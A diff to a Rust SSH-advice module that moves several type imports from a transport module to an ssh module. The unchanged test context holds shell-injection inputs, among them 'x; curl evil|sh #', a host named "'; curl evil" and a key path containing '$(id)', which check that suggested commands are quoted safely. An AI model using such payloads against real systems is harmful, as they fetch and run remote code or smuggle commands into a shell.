@@ -11,8 +11,9 @@ use std::io::Read;
 use std::path::Path;
 
 use crate::model::{self, FaultKind};
+use crate::ssh::{ConnectPhase, Fault, KeyFileProblem, Origin};
 use crate::storage::user_dirs;
-use crate::transport::{ConnectPhase, Fault, KeyFileProblem, Origin, Reach, Target};
+use crate::transport::{Reach, Target};
 
 /// What remedies name: the node, its host, and its SSH options.
 #[derive(Clone, Debug)]
@@ -591,7 +592,7 @@ impl Advice {
 mod tests {
     use super::*;
     use crate::model::NodeName;
-    use crate::transport::{Profile, SshTarget};
+    use crate::ssh::{Profile, SshTarget};
 
     /// A shell injection, if the text were pasted.
     const HOSTILE: &str = "x; curl evil|sh #";
@@ -789,7 +790,7 @@ mod tests {
         assert_eq!(advice.for_transport_fault(&open), "chmod 600 '/k/my $(id)'");
         let locked = advice.for_transport_fault(&Fault::KeyEncrypted { file: file.into() });
         assert!(locked.ends_with("ssh-add '/k/my $(id)'"), "{locked}");
-        let changed = Fault::HostKeyChanged(Box::new(crate::transport::HostKeyChange {
+        let changed = Fault::HostKeyChanged(Box::new(crate::ssh::HostKeyChange {
             host: "'; curl evil".to_owned(),
             file: file.into(),
             line: 1,
